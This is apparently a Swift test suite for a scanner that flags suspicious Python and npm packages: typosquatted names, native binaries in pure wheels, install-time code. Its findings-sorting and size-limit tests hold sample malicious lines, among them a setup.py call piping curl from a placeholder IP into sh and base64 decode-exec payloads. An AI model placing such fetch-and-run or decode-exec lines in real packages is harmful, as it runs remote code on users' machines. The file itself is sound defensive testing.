import Testing
@testable import CordonHeuristics

@Suite struct TyposquatTests {
    let setupPy = pf("setup.py", "from setuptools import setup\nsetup()\n")

    @Test func adjacentSwapOfRequestsIsMedium() {
        let fs = Heuristics.scan(pkg([setupPy], name: "reqeusts"))
        #expect(rules(fs) == ["typosquat"])
        #expect(fs.first?.severity == .medium)
        #expect(fs.first?.file == "setup.py")
        #expect(fs.first.map { ($0.startLine, $0.endLine) } ?? (0, 0) == (1, 1))
        #expect(fs.first?.message.contains("`requests`") == true)
    }

    @Test func deletionInsertionAndSubstitutionAreCaught() {
        #expect(Typosquat.check(pkg([], name: "urlib3")).first?.message.contains("`urllib3`") == true)
        #expect(Typosquat.check(pkg([], name: "numpyy")).first?.message.contains("`numpy`") == true)
        #expect(Typosquat.check(pkg([], name: "pandaz")).first?.message.contains("`pandas`") == true)
        let npm = Typosquat.check(pkg([pf("package.json", "{}")], eco: .npm, name: "expresss"))
        #expect(npm.first?.message.contains("`express`") == true)
        #expect(npm.first?.file == "package.json")
    }

    @Test func confusableFoldingIsCaught() {
        let fs = Typosquat.check(pkg([], name: "rnatplotlib"))  // rn -> m, two edits away
        #expect(fs.count == 1)
        #expect(fs.first?.message.contains("confusable") == true)
        #expect(fs.first?.message.contains("`matplotlib`") == true)
        #expect(Typosquat.check(pkg([], name: "dj4ng0")).isEmpty)  // two real edits, no fold
        #expect(Typosquat.check(pkg([], eco: .npm, name: "l0dash")).first?.message.contains("`lodash`") == true)
    }

    @Test func popularNamesAndNormalisedSpellingsAreClean() {
        #expect(Heuristics.scan(pkg([setupPy], name: "requests")).isEmpty)
        #expect(Typosquat.check(pkg([], name: "Requests")).isEmpty)
        #expect(Typosquat.check(pkg([], name: "python_dateutil")).isEmpty)
        #expect(Typosquat.check(pkg([], name: "Typing.Extensions")).isEmpty)
        #expect(Typosquat.check(pkg([], eco: .npm, name: "react")).isEmpty)
        #expect(Typosquat.check(pkg([], eco: .npm, name: "preact")).isEmpty)
    }

    @Test func unrelatedNamesAreClean() {
        #expect(Typosquat.check(pkg([], name: "cordon-scanner-fixtures")).isEmpty)
        #expect(Typosquat.check(pkg([], eco: .npm, name: "left-pad-but-better")).isEmpty)
    }

    @Test func veryShortPopularNamesOnlyMatchViaFolding() {
        // "sax" is one substitution from "six"; distance-1 matching is limited to names of 4+ characters.
        #expect(Typosquat.check(pkg([], name: "sax")).isEmpty)
        #expect(Typosquat.check(pkg([], eco: .npm, name: "p-g")).first?.message.contains("`pg`") == true)
    }

    @Test func damerauHelper() {
        #expect(Typosquat.withinOneEdit(Array("abcd"), Array("abdc")))
        #expect(Typosquat.withinOneEdit(Array("abcd"), Array("abd")))
        #expect(Typosquat.withinOneEdit(Array("abcd"), Array("xabcd")))
        #expect(!Typosquat.withinOneEdit(Array("abcd"), Array("badc")))
        #expect(!Typosquat.withinOneEdit(Array("abcd"), Array("ab")))
        #expect(Typosquat.normalize("Foo__Bar.-baz", .pypi) == "foo-bar-baz")
    }

    @Test func popularListsAreSizeable() {
        #expect(PopularNames.pypi.count >= 150)
        #expect(PopularNames.npm.count >= 150)
    }
}

@Suite struct NativeBinaryTests {
    static let elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00] + [UInt8](repeating: 0, count: 56)
    static let machO: [UInt8] = [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01] + [UInt8](repeating: 0, count: 24)
    static let pe: [UInt8] = Array("MZ".utf8) + [0x90, 0x00, 0x03, 0x00] + [UInt8](repeating: 0, count: 58)

    @Test func elfInPureWheelIsMedium() {
        let p = pkg([pf("widget/__init__.py", "from ._impl import run\n"), PackageFile(path: "widget/_impl.so", bytes: Self.elf)],
                    pureWheel: true)
        let fs = Heuristics.scan(p)
        #expect(rules(fs) == ["native-binary"])
        #expect(fs.first?.severity == .medium)
        #expect(fs.first?.file == "widget/_impl.so")
        #expect(fs.first.map { ($0.startLine, $0.endLine) } ?? (0, 0) == (1, 1))
    }

    @Test func machOAndPEInNpmAreMedium() {
        let p = pkg([PackageFile(path: "bin/helper", bytes: Self.machO), PackageFile(path: "bin/helper.exe", bytes: Self.pe)], eco: .npm)
        let fs = Heuristics.scan(p)
        #expect(fs.map(\.rule) == ["native-binary", "native-binary"])
        #expect(fs.map(\.file) == ["bin/helper", "bin/helper.exe"])
    }

    @Test func nativeCodeInPlatformWheelOrSdistIsClean() {
        let p = pkg([PackageFile(path: "widget/_impl.so", bytes: Self.elf)], pureWheel: false)
        #expect(Heuristics.scan(p).isEmpty)
    }

    @Test func lookalikeMagicIsClean() {
        let javaClass: [UInt8] = [0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x34, 0x00, 0x10]
        let p = pkg([pf("notes/MZ.txt", "MZ is the DOS header magic.\n"), PackageFile(path: "lib/A.class", bytes: javaClass)],
                    eco: .npm)
        #expect(Heuristics.scan(p).isEmpty)
    }
}

@Suite struct ScanTests {
    @Test func benignLibraryHasNothingHighOrAbove() {
        let files = [
            pf("setup.py", """
            from setuptools import setup, find_packages

            with open("README.md") as f:
                long_description = f.read()

            setup(
                name="tidyconf",
                version="0.3.1",
                description="Tidy configuration loading",
                long_description=long_description,
                packages=find_packages(),
                install_requires=["pyyaml>=6", "requests>=2.28"],
                python_requires=">=3.9",
            )
            """),
            pf("tidyconf/__init__.py", """
            \"\"\"Tidy configuration loading.\"\"\"
            import base64
            import os

            import requests
            import yaml

            __version__ = "0.3.1"


            def load(path):
                with open(path) as f:
                    return yaml.safe_load(f)


            def fetch_remote(url, token=None):
                headers = {"Authorization": "Bearer " + token} if token else {}
                resp = requests.get(url, headers=headers, timeout=10)
                resp.raise_for_status()
                return yaml.safe_load(resp.text)


            def secret(name):
                value = os.environ.get(name, "")
                return base64.b64decode(value) if value.startswith("b64:") else value
            """),
            pf("README.md", """
            # tidyconf

            Load YAML configuration from disk or from https://config.example.com.

                pip install tidyconf

            Source: https://github.com/example/tidyconf
            """),
        ]
        let fs = Heuristics.scan(pkg(files, name: "tidyconf"))
        #expect(!fs.contains { $0.severity >= .high })
        #expect(fs.isEmpty)
    }

    @Test func findingsAreSortedByFileLineRule() {
        let files = [
            pf("z.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            pf("a.py", "U = 'http://198.51.100.2/x'\nV = 'https://paste.ee/r/abc'\n"),
            pf("setup.py", "import os\nos.system('curl http://198.51.100.2/i | sh')\n"),
        ]
        let fs = Heuristics.scan(pkg(files))
        let keys = fs.map { "\($0.file):\($0.startLine):\($0.rule)" }
        #expect(keys == ["a.py:1:shady-link", "a.py:2:shady-link", "setup.py:2:download-execute", "setup.py:2:install-time-code",
                         "setup.py:2:shady-link", "z.py:2:decode-exec"])
        #expect(fs.first { $0.rule == "download-execute" }?.severity == .critical)
    }

    @Test func binaryAndOversizedFilesSkipTextRules() {
        let payload = "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
        var withNul = Array(payload.utf8)
        withNul.insert(0, at: 0)
        var huge = Array(payload.utf8)
        huge += [UInt8](repeating: 0x20, count: 4 * 1024 * 1024)
        let p = pkg([PackageFile(path: "a.py", bytes: withNul), PackageFile(path: "b.py", bytes: huge), pf("c.py", payload)])
        #expect(Heuristics.scan(p).map(\.file) == ["c.py"])
    }

    @Test func evidenceIsSingleLineAndBounded() {
        let long = "exec(base64.b64decode('" + String(repeating: "QUJD", count: 100) + "'))\t# tab\r\n"
        let fs = scanFile("x.py", long)
        #expect(!fs.isEmpty)
        for f in fs {
            #expect(f.evidence.count <= 160)
            #expect(!f.evidence.contains("\n") && !f.evidence.contains("\r") && !f.evidence.contains("\t"))
        }
    }

    @Test func ruleCatalogueIsComplete() {
        let expected: [String: Severity] = [
            "install-time-code": .high, "pth-code": .high, "npm-install-script": .high, "download-execute": .critical,
            "decode-exec": .high, "obfuscation": .medium, "credential-access": .critical, "reverse-shell": .critical,
            "shady-link": .medium, "typosquat": .medium, "native-binary": .medium,
        ]
        #expect(Heuristics.rules.count == expected.count)
        for r in Heuristics.rules {
            #expect(expected[r.id] == r.severity, "\(r.id)")
            #expect(!r.summary.isEmpty)
        }
        #expect(Severity.allCases.sorted() == [.low, .medium, .high, .critical])
        #expect(Severity.low < .critical && !(Severity.high < .medium))
    }

    @Test func largeBenignFileScansCleanly() {
        let block = "def handler_%(request):\n    return render(request, 'index.html', {'items': list(range(10))})\n\n"
        let text = String(repeating: block, count: 8000)  // ~0.7 MB
        let clock = ContinuousClock()
        let elapsed = clock.measure { #expect(scanFile("pkg/views.py", text).isEmpty) }
        #expect(elapsed < .seconds(5))
    }

    @Test func malformedPackageJsonDoesNotCrash() {
        let p = pkg([pf("package.json", "{\"scripts\": {\"postinstall\": \"node x.js\"")], eco: .npm)
        #expect(Heuristics.scan(p).isEmpty)
    }
}
